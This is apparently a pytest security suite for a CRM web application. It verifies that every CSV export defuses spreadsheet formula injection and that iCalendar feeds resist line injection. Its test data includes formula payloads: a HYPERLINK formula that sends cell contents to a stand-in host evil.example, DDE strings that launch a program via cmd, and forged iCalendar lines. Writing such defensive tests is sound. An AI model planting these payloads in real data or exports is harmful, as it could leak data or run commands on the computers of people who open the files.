"""Formula injection: no CSV export hands a spreadsheet a cell it would run as a formula;
no iCalendar export lets a text add lines of its own."""

import csv
import io

import pytest
import sqlalchemy as sa
from werkzeug.datastructures import MultiDict

from crm.activities.models import Activity, Task
from crm.agreements.models import Agreement
from crm.auth.models import User
from crm.enquiries.models import Enquiry
from crm.organisations.models import Contact, Organisation
from tests.security.conftest import CSRF_ON, page_form, sign_in, staff_rules

pytestmark = pytest.mark.config(**CSRF_ON)

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
# Columns that hold codes, keys or addresses rather than free text.
NOT_FREE_TEXT = {
    "email",
    "email_domains",
    "language",
    "reference",
    "submission_token",
    "calendar_token",
    "password_hash",
    "totp_secret",
    "code_hash",
    "stored_name",
    "sha256",
    "content_type",
    "country",
    "website",
    "org_number",
    "name_key",
    "search_text",
    "legal_hold_reason",
}
MODELS = (Organisation, Contact, Activity, Agreement, Task, Enquiry, User)


def poison(db):
    """Every free-text column of every record starts with a formula (straight into the database:
    imports, the public form and old data all end up there too)."""
    changed = 0
    for model in MODELS:
        columns = [
            column
            for column in model.__table__.columns
            if isinstance(column.type, sa.String | sa.Text)
            and not isinstance(column.type, sa.Enum)
            and not column.unique
            and not column.foreign_keys
            and column.name not in NOT_FREE_TEXT
            and not column.name.endswith(("_id", "_key", "_at", "kind", "status", "type"))
        ]
        records = db.session.scalars(sa.select(model)).all()
        for number, record in enumerate(records):
            for offset, column in enumerate(columns):
                payload = PAYLOADS[(number + offset) % len(PAYLOADS)]
                if column.type.length:
                    payload = payload[: column.type.length]
                setattr(record, column.key, payload)
                changed += 1
    db.session.commit()
    return changed


def csv_cells(response):
    text = response.get_data(as_text=True).removeprefix("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def export_urls(app, demo, client):
    """Every GET route that answers with CSV, found by asking each one, plus known variants."""
    urls = []
    for rule in staff_rules(app):
        url = demo.url_for_endpoint(rule)
        if rule.endpoint == "documents.download" or "download" in rule.endpoint:
            continue
        response = client.get(url)
        if response.mimetype == "text/csv":
            urls.append(url)
    return urls


def test_every_csv_export_neutralises_formulas(app, client, demo, db):
    assert poison(db) > 100
    sign_in(client, demo.users["admin"].email)
    urls = export_urls(app, demo, client)
    year = db.session.scalar(sa.select(Activity.start_date).order_by(Activity.id).limit(1)).year
    urls += [
        "/contacts/export.csv?mailing=1",
        "/contacts/export.csv?deleted=1",
        "/organisations/export.csv?deleted=1",
        f"/reports/quarters.csv?year={year}",
        f"/reports/organisations/{demo.values['organisation_id']}.csv?year={year}",
    ]
    expected = {
        "/organisations/export.csv",
        "/contacts/export.csv",
        "/activities/export.csv",
        "/agreements/export.csv",
        "/enquiries/export.csv",
        "/reports/quarters.csv",
    }
    assert expected <= set(urls), set(urls)

    neutralised = {}
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        assert response.headers["Content-Disposition"].startswith("attachment"), url
        cells = csv_cells(response)
        dangerous = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
        assert not dangerous, f"{url}: {dangerous[:5]}"
        neutralised[url] = sum(1 for cell in cells if cell[:2] in {"'" + s for s in FORMULA_STARTS})

    # The payloads did reach the exports (and came out with a leading apostrophe).
    for url in ("/organisations/export.csv", "/contacts/export.csv", "/activities/export.csv"):
        assert neutralised[url] > 0, url
    assert neutralised["/agreements/export.csv"] > 0
    assert neutralised["/enquiries/export.csv"] > 0


def test_member_exports_are_neutralised_too(client, demo, db):
    poison(db)
    sign_in(client, demo.users["member"].email)

    for url in ("/enquiries/export.csv", "/contacts/export.csv?mailing=1"):
        response = client.get(url)
        assert response.status_code == 200, url
        assert not [cell for cell in csv_cells(response) if cell.startswith(FORMULA_STARTS)]


def test_a_formula_typed_into_a_form_is_exported_as_text(client, demo, db):
    token = sign_in(client, demo.users["member"].email)
    organisation_id = demo.values["organisation_id"]
    url = f"/organisations/{organisation_id}/edit"

    for value in [*PAYLOADS, "=", "@", "-", "+"]:
        form = [
            (name, value if name == "city" else field)
            for name, field in page_form(client.get(url).get_data(as_text=True), having="name")
            if name != "csrf_token"
        ]
        response = client.post(url, data=MultiDict([*form, ("csrf_token", token)]))
        assert response.status_code == 302

        cells = csv_cells(client.get("/organisations/export.csv"))

        stored = db.session.get(Organisation, organisation_id).city
        assert stored, value
        assert "'" + stored in cells, value
        assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], value


def test_calendar_feeds_keep_line_breaks_inside_their_field(client, demo, db):
    """An activity's text cannot add lines (attendees, events) to an iCalendar file."""
    activity = db.session.get(Activity, demo.values["activity_id"])
    activity.title = "Evil\r\nATTENDEE:mailto:evil@example.org\r\nEND:VEVENT"
    activity.place = "Room\nX-INJECTED:1"
    db.session.commit()
    sign_in(client, demo.users["member"].email)

    for url in (f"/calendar/activity/{activity.id}.ics", f"/calendar/{demo.values['token']}.ics"):
        lines = client.get(url).get_data(as_text=True).splitlines()

        assert not [line for line in lines if line.startswith(("ATTENDEE", "X-INJECTED"))], url
        assert lines.count("BEGIN:VEVENT") == lines.count("END:VEVENT"), url


# ---------------------------------------------------------------- separators inside a value

# Excel with Swedish settings splits a file on ";", whatever delimiter it was written with.
SEPARATED = "Beta;=1+1;"


def parts_a_spreadsheet_may_see(response):
    """Every cell any reader could make of the file: Python's csv module with "," and with
    ";", and the raw text cut at every separator a spreadsheet may split on."""
    text = response.get_data(as_text=True).removeprefix("\ufeff")
    cells = []
    for delimiter in (",", ";", "\t"):
        rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        cells += [cell for row in rows for cell in row]
    for separator in (",", ";", "\t", "\n", "\r"):
        cells += text.split(separator)
    return cells


def dangerous_parts(cells):
    return [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]


def test_a_separator_inside_an_organisation_name_cannot_start_a_formula(client, demo, db):
    token = sign_in(client, demo.users["member"].email)
    organisation_id = demo.values["organisation_id"]
    url = f"/organisations/{organisation_id}/edit"
    form = [
        (name, SEPARATED if name == "name" else value)
        for name, value in page_form(client.get(url).get_data(as_text=True), having="name")
        if name != "csrf_token"
    ]
    assert client.post(url, data=MultiDict([*form, ("csrf_token", token)])).status_code == 302
    assert db.session.get(Organisation, organisation_id).name == SEPARATED

    response = client.get("/organisations/export.csv")

    text = response.get_data(as_text=True)
    # Quoted, and the part after the ";" defused: "Beta;'=1+1;".
    assert '"Beta;\'=1+1;"' in text
    for delimiter in (",", ";"):
        rows = list(
            csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter)
        )
        assert rows and not dangerous_parts([cell for row in rows for cell in row]), delimiter
    assert not dangerous_parts(parts_a_spreadsheet_may_see(response))


def test_a_separator_in_a_visitors_enquiry_cannot_start_a_formula(client, demo, db):
    """The name and organisation a visitor types into the public form reach the export as
    text, however a spreadsheet splits the file."""
    page = client.get("/contact?lang=en").get_data(as_text=True)
    fields = dict(page_form(page, having="form_token"))
    fields.update(
        name=SEPARATED,
        email="beta@example.org",
        organisation_name="Beta AB,-2+3;@SUM(1)",
        topic="clinical_studies",
        message='Hello;=HYPERLINK("https://evil.example")\n+1',
        acknowledgement="y",
    )
    assert client.post("/contact?lang=en", data=fields).status_code == 303
    enquiry = db.session.scalar(sa.select(Enquiry).where(Enquiry.email == "beta@example.org"))
    assert enquiry.name == SEPARATED

    sign_in(client, demo.users["coordinator"].email)
    response = client.get("/enquiries/export.csv?status=")

    assert response.status_code == 200
    text = response.get_data(as_text=True)
    assert '"Beta;\'=1+1;"' in text
    assert "\"Beta AB,'-2+3;'@SUM(1)\"" in text
    assert not dangerous_parts(parts_a_spreadsheet_may_see(response))
